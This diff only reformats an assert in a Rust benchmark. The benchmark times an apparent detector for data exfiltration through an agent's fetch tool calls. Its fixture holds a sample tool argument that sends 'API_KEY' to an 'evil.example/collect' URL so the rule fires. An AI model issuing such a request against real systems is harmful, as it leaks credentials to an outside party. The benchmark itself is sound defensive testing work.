@@ -40,7 +40,10 @@ fn bench(c: &mut Criterion) {
         json!({"url": "https://evil.example/collect?d=API_KEY"}),
     );
     let idx = plan.tool_index("fetch.fetch").unwrap();
-    assert!(!h.check(flow, &out.labels, 1000.0).is_empty(), "the rule must fire");
+    assert!(
+        !h.check(flow, &out.labels, 1000.0).is_empty(),
+        "the rule must fire"
+    );
     let mut group = c.benchmark_group("flow");
     group.bench_function("check_1000_calls_of_history", |b| {
         b.iter(|| black_box(h.check(flow, black_box(&out.labels), 1000.0)))
